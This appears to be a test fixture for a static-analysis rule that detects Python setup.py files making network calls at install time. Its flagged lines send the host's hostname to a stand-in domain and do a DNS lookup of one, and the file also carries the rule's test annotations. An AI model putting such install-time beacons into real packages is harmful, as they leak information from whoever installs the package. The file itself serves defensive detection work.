import socket
import urllib.parse
import urllib.request

import setuptools

# ruleid: python-setup-talks-to-network
urllib.request.urlopen("https://c.example.net/?h=" + socket.gethostname())
# ruleid: python-setup-talks-to-network
socket.gethostbyname("a.c.example.net")
# ok: python-setup-talks-to-network
version = open("VERSION").read()
# ok: python-setup-talks-to-network
homepage = urllib.parse.urljoin("https://shop.example.com/", "docs")

setuptools.setup(name="shop", version=version, url=homepage)
